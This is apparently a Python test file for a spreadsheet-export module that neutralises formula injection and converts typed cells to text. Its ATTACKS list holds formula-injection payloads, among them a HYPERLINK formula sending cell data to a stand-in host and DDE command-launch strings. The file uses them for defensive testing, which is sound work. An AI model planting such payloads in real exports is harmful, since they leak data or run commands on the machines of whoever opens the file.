"""Cells as text: the one reading of a typed cell, and the one neutralising function."""

from __future__ import annotations

import datetime as dt

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledenpanel.kernel.cells import (
    TRIGGERS,
    cell_text,
    is_formula_like,
    is_plain_number,
    neutralise,
    restore,
)

# The payloads of the security review (issue 10, finding 6) and OWASP's examples.
ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A2&B2;"Klik voor de uitslag")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+31 6 12345678",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "＝1+1",
    "-",
    "-inf",
    "-1,5",
    "-1 -99",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_prefixes_a_quote_to_a_cell_a_spreadsheet_would_evaluate(attack: str) -> None:
    assert is_formula_like(attack)
    assert neutralise(attack) == "'" + attack
    assert restore(neutralise(attack)) == attack


@pytest.mark.parametrize("number", ["-3", "-2.5", "-0.125", "-.5", "-1e-05", "-12E+3", "0", "42"])
def test_it_keeps_plain_numbers_numbers(number: str) -> None:
    assert is_plain_number(number)
    assert neutralise(number) == number


@pytest.mark.parametrize(
    "text",
    ["", "Betaalbaar wonen", "'s Avonds", "'t Gooi", "e-mail", "3-2", "1e5", "weet_niet"],
)
def test_it_leaves_ordinary_text_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_a_quote_before_a_trigger_gets_one_more_so_restoring_is_exact() -> None:
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"


def _cells() -> st.SearchStrategy[str]:
    """Arbitrary text, with the interesting prefixes made likely."""
    prefix = st.text(alphabet=TRIGGERS + "' 0123456789.-eE", max_size=4)
    return st.builds(lambda a, b: a + b, prefix, st.text(max_size=12))


@given(_cells())
def test_restore_undoes_neutralise_for_every_string(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(_cells())
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    cell = neutralise(text)
    first = cell.lstrip(" ")[:1]
    assert first == "" or first not in TRIGGERS or is_plain_number(cell)


# -- reading: cell_text -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("", ""),
        ("  select_one yn \n", "select_one yn"),
        ("   ", ""),
        (3.0, "3"),  # a choice typed as 3 is stored as the number 3.0
        (3, "3"),
        (-0.0, "0"),
        (1e20, "100000000000000000000"),
        (3.5, "3.5"),
        (1e-07, "1e-07"),
        (True, "TRUE"),  # as Excel shows it and KoboToolbox exports the answer
        (False, "FALSE"),
        (dt.date(2026, 5, 1), "2026-05-01"),
        (dt.datetime(2026, 5, 1), "2026-05-01"),
        (dt.datetime(2026, 5, 1, 8, 30), "2026-05-01 08:30:00"),
        (dt.time(8, 30), "08:30:00"),
        (dt.timedelta(hours=1, minutes=30), "1:30:00"),
        ("NA", "NA"),  # text stays text: "no answer" is for the answers' reader to say
        ("n/a", "n/a"),
    ],
)
def test_cell_text_writes_a_typed_cell_as_pyxform_does(value: object, text: str) -> None:
    assert cell_text(value) == text


def test_cell_text_keeps_a_number_typed_as_text_as_typed() -> None:
    assert cell_text("3.0") == "3.0"
    assert cell_text("007") == "007"
